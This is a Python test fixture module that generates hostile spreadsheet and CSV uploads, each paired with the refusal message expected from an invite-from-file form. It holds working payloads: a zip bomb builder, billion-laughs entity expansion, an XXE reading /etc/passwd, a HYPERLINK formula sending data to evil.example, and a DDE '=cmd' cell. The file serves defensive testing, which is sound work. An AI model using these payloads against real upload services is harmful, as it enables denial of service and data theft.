"""Small hostile uploads, made in code: each one broke the invite-from-file form once.

Used by the integration tests (posted through the real form) and by `make bench`
(bench/bench_uploads.py), so both attack with the same files.
"""

from __future__ import annotations

import base64
import codecs
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{OFFICE_TYPE}.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    f'ContentType="{OFFICE_TYPE}.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
    f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
    '<sheets><sheet name="People" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
    f'<Relationship Id="rId1" Type="{REL_NS}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
PEOPLE_ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Email</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>First name</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>ada@example.org</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>Ada</t></is></c></row>'
)


def sheet(rows: str = PEOPLE_ROWS, *, before: str = "", prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN_NS}">'
        f"{before}<sheetData>{rows}</sheetData></worksheet>"
    )


def strings(*texts: str, prolog: str = "") -> str:
    items = "".join(f"<si><t>{text}</t></si>" for text in texts)
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{MAIN_NS}">{items}</sst>'


def xlsx(
    sheet_xml: str | bytes | None = None,
    *,
    shared: str | bytes | None = None,
    parts: dict[str, str | bytes] | None = None,
) -> bytes:
    """A minimal workbook that Excel and LibreOffice open, with any part replaced."""
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet() if sheet_xml is None else sheet_xml,
        "xl/sharedStrings.xml": strings() if shared is None else shared,
    }
    members.update(parts or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


# -- the zip bomb --------------------------------------------------------------------------
def _deflate_pieces(head: bytes, block: bytes, times: int, tail: bytes) -> bytes:
    """Raw deflate of head + block × times + tail without compressing gigabytes: after a
    full flush the compressor starts afresh, so one compressed block, repeated, is the
    compressed stream of the repeated block."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = []
    for piece in (head, block, block):
        parts.append(compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH))
    assert parts[1] == parts[2]
    return parts[0] + parts[1] * times + compressor.compress(tail) + compressor.flush()


def _crc(head: bytes, block: bytes, times: int, tail: bytes) -> int:
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(block, crc)
    return zlib.crc32(tail, crc)


def _zip_of_deflated(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of members deflated beforehand: (name, deflated bytes, crc, declared size)."""
    out, directory = io.BytesIO(), io.BytesIO()
    for name, deflated, crc, size in members:
        offset, encoded = out.tell(), name.encode()
        out.write(
            struct.pack(
                "<4s5H3L2H",
                b"PK\x03\x04",
                20,
                0,
                8,
                0,
                0,
                crc,
                len(deflated),
                size,
                len(encoded),
                0,
            )
            + encoded
            + deflated
        )
        directory.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(deflated),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start, listing = out.tell(), directory.getvalue()
    out.write(listing)
    count = len(members)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(listing), start, 0))
    return out.getvalue()


def zip_bomb(unzipped_mb: int = 1300, *, declared_mb: int | None = None) -> bytes:
    """A workbook whose sheet inflates to `unzipped_mb` MB (blanks between its rows, which
    deflate 1,000 to 1): 1.3 MB zipped for 1.3 GB. `declared_mb` makes its headers lie."""
    block = b" " * (4 * 1024 * 1024)
    times = max(1, unzipped_mb // 4)
    head, tail = sheet(PEOPLE_ROWS + "<!--").encode().split(b"<!--")
    size = len(head) + len(block) * times + len(tail)
    members = []
    for name, text in (
        ("[Content_Types].xml", CONTENT_TYPES),
        ("_rels/.rels", ROOT_RELS),
        ("xl/workbook.xml", WORKBOOK),
        ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
    ):
        content = text.encode()
        members.append(
            (name, _deflate_pieces(content, b"", 0, b""), zlib.crc32(content), len(content))
        )
    declared = size if declared_mb is None else declared_mb * 1024 * 1024
    members.append(
        (
            "xl/worksheets/sheet1.xml",
            _deflate_pieces(head, block, times, tail),
            _crc(head, block, times, tail),
            declared,
        )
    )
    return _zip_of_deflated(members)


# -- the other hostile files ---------------------------------------------------------------
def _cells_in_one_row(size: int) -> str:
    cell = "<c><v>1</v></c>"
    return '<row r="1">' + cell * (size // len(cell)) + "</row>"


def _empty_rows(count: int) -> str:
    return "".join(f'<row r="{n}"/>' for n in range(1, count + 1))


def _incompressible(size: int) -> str:
    """Text that deflate cannot shrink (so no ratio check refuses it first)."""
    return base64.b64encode(random.Random(size).randbytes(size * 3 // 4)).decode()


def _empty_cells(rows: int, columns: int) -> str:
    """Empty cells with a style each (varied, so that the sheet deflates less than 100 to 1)."""
    styles = iter(random.Random(rows).choices(range(1000), k=rows * columns))
    return "".join(
        f'<row r="{row}">' + "".join(f'<c s="{next(styles)}"/>' for _ in range(columns)) + "</row>"
        for row in range(1, rows + 1)
    )


def _unknown_elements(count: int) -> str:
    """Empty elements whose names vary, so that the sheet deflates less than 100 to 1."""
    names = random.Random(count).choices(range(10_000), k=count)
    return "".join(f"<x{name}/>" for name in names)


def _many_parts(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/workbook.xml", WORKBOOK)
        for number in range(count):
            archive.writestr(f"{number}", b"")
    return buffer.getvalue()


def _bzip2_workbook() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet())
    return buffer.getvalue()


BILLION_LAUGHS = (
    '<!DOCTYPE sst [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>"
)
FORMULA_ROWS = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>Email</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>First name</t></is></c></row>'
    '<row r="2"><c r="A2" t="str"><f>LOWER("ADA@EXAMPLE.ORG")</f><v>ada@example.org</v></c>'
    '<c r="B2"><f>HYPERLINK("https://evil.example/?leak="&amp;A2,"Ada")</f></c></row>'
    '<row r="3"><c r="A3" t="inlineStr"><is><t>=cmd|\' /C calc\'!A0</t></is></c></row>'
)
UTF16_CSV = "email\tfirst name\nhelene@example.org\tHélène\nzoe@example.org\tZoë\n"


@dataclass(frozen=True)
class HostileUpload:
    name: str  # what it is, for a test id and the bench's report
    filename: str
    build: Callable[[], bytes]
    says: str  # what the organiser reads on the form; "" when the file is read
    refused: bool = True


HOSTILE_UPLOADS: tuple[HostileUpload, ...] = (
    HostileUpload(
        "a 2 KB workbook declaring A1:XFD1048576",
        "huge-dimension.xlsx",
        lambda: xlsx(sheet(before='<dimension ref="A1:XFD1048576"/>')),
        "The sheet declares a size of A1:XFD1048576 (1,048,576 rows × 16,384 columns)",
    ),
    HostileUpload(
        "a workbook with one cell at XFD1048576 and no dimension",
        "far-cell.xlsx",
        lambda: xlsx(sheet(PEOPLE_ROWS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
        "The sheet has more than 200 columns (row 1,048,576 has more)",
    ),
    HostileUpload(
        "a 1.3 MB zip bomb (1.3 GB unzipped)",
        "bomb.xlsx",
        zip_bomb,
        "This file is too large once unzipped (over 50 MB)",
    ),
    HostileUpload(
        "a zip bomb whose headers claim 40 MB",
        "lying-bomb.xlsx",
        lambda: zip_bomb(declared_mb=40),
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "a zip bomb whose headers claim 1 KB",
        "lying-small-bomb.xlsx",
        lambda: zip_bomb(declared_mb=0),
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "a 60 KB row of cells",
        "wide-row.xlsx",
        lambda: xlsx(sheet(_cells_in_one_row(60 * 1024))),
        "The sheet has more than 200 columns (row 1 has more)",
    ),
    HostileUpload(
        "a CSV of 200,000 columns",
        "wide.csv",
        lambda: ("email," + ",".join(f"c{n}" for n in range(200_000)) + "\n").encode(),
        "The sheet has more than 200 columns (row 1 has more)",
    ),
    HostileUpload(
        "a CSV of 520,000 cells (40,000 rows × 13)",
        "many-cells.csv",
        lambda: "\n".join(f"p{row}@example.org" + ",x" * 12 for row in range(40_000)).encode(),
        "The file has more than 500,000 cells",
    ),
    HostileUpload(
        "a CSV of 9.9 MB of blank lines",
        "blank-lines.csv",
        lambda: b"\n" * 9_900_000,
        "The file has more than 100,002 lines, empty ones included",
    ),
    HostileUpload(
        "a CSV of 9.9 MB of carriage returns",
        "carriage-returns.csv",
        lambda: b"\r" * 9_900_000,
        "The file has more than 100,002 lines, empty ones included",
    ),
    HostileUpload(
        "a CSV of 4.9 million lines of one space",
        "space-lines.csv",
        lambda: b" \n" * 4_900_000,
        "The file has more than 100,002 lines, empty ones included",
    ),
    HostileUpload(
        "a CSV of one 9 MB cell",
        "one-cell.csv",
        lambda: b"a" * 9_000_000,
        "A cell on row 1 holds more than 32,767 characters",
    ),
    HostileUpload(
        "a workbook of 2.5 million empty rows",
        "empty-rows.xlsx",
        lambda: xlsx(sheet(_empty_rows(2_500_000))),
        "The sheet has more than 100,002 rows, empty ones included",
    ),
    HostileUpload(
        "2,600 rows of 200 empty cells",
        "empty-cells.xlsx",
        lambda: xlsx(sheet(_empty_cells(rows=2_600, columns=200))),
        "The sheet has more than 500,000 cells, empty ones included",
    ),
    HostileUpload(
        "a sheet of a million unknown elements",
        "many-tags.xlsx",
        lambda: xlsx(sheet(before=_unknown_elements(1_000_000))),
        "This workbook holds more than 800,000 XML elements",
    ),
    HostileUpload(
        "a workbook of 100,000 empty parts",
        "many-parts.xlsx",
        lambda: _many_parts(100_000),
        "This file holds more than 1,000 parts",
    ),
    HostileUpload(
        "a cell of 40,000 characters",
        "long-cell.xlsx",
        lambda: xlsx(
            sheet(
                PEOPLE_ROWS
                + '<row r="3"><c r="A3" t="inlineStr"><is><t>'
                + "x" * 40_000
                + "</t></is></c></row>"
            )
        ),
        "A cell on row 3 holds more than 32,767 characters",
    ),
    HostileUpload(
        "a 5 MB attribute in the sheet",
        "long-tag.xlsx",
        lambda: xlsx(sheet(f'<row r="1" x="{_incompressible(5_000_000)}"/>')),
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "a DTD in the sheet",
        "dtd.xlsx",
        lambda: xlsx(sheet(prolog="<!DOCTYPE worksheet [<!ELEMENT worksheet ANY>]>")),
        "This file holds XML with a DTD or entity declarations",
    ),
    HostileUpload(
        "billion laughs in the shared strings",
        "laughs.xlsx",
        lambda: xlsx(
            sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'),
            shared=strings("&lol9;", prolog=BILLION_LAUGHS),
        ),
        "This file holds XML with a DTD or entity declarations",
    ),
    HostileUpload(
        "an external entity in the workbook",
        "xxe.xlsx",
        lambda: xlsx(
            parts={
                "xl/workbook.xml": WORKBOOK.replace(
                    "<workbook ",
                    '<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook ',
                ).replace("<sheets>", "<sheets>&x;")
            }
        ),
        "This file holds XML with a DTD or entity declarations",
    ),
    HostileUpload(
        "NUL bytes in a CSV",
        "nul.csv",
        lambda: b"email,name\nada@example.org,A\x00d\x00a\n",
        "This file is not a CSV text file.",
    ),
    HostileUpload(
        "NUL bytes in a sheet",
        "nul.xlsx",
        lambda: xlsx(sheet(PEOPLE_ROWS.replace("Ada", "A\x00da"))),
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "a sheet in an encoding that does not exist",
        "klingon.xlsx",
        lambda: xlsx(sheet().replace('encoding="UTF-8"', 'encoding="x-klingon"')),
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "a sheet that says UTF-8 and is not",
        "latin1-sheet.xlsx",
        lambda: xlsx(sheet(PEOPLE_ROWS.replace("Ada", "Hélène")).encode("latin-1")),
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "a UTF-16 CSV without a byte-order mark",
        "utf16-nobom.csv",
        lambda: UTF16_CSV.encode("utf-16-le"),
        "This file is not a CSV text file.",
    ),
    HostileUpload(
        "a workbook compressed with bzip2",
        "bzip2.xlsx",
        _bzip2_workbook,
        "This Excel file cannot be opened: it may be damaged.",
    ),
    HostileUpload(
        "an old .xls (or a password-protected workbook)",
        "old.xlsx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
        "This is an old-format (.xls) or password-protected Excel file",
    ),
    # Read, not refused: what a formula says is text, never run.
    HostileUpload(
        "formulas in a workbook's cells",
        "formulas.xlsx",
        lambda: xlsx(sheet(FORMULA_ROWS)),
        "",
        refused=False,
    ),
    HostileUpload(
        "formulas in a CSV",
        "formulas.csv",
        lambda: (
            b'email,first name\nada@example.org,"=HYPERLINK(""https://evil.example"",""Ada"")"\n'
            b"=1+1,@SUM(1)\n"
        ),
        "",
        refused=False,
    ),
    HostileUpload(
        "a UTF-16 CSV with its byte-order mark (Excel's Unicode text)",
        "utf16.csv",
        lambda: codecs.BOM_UTF16_LE + UTF16_CSV.encode("utf-16-le"),
        "",
        refused=False,
    ),
)
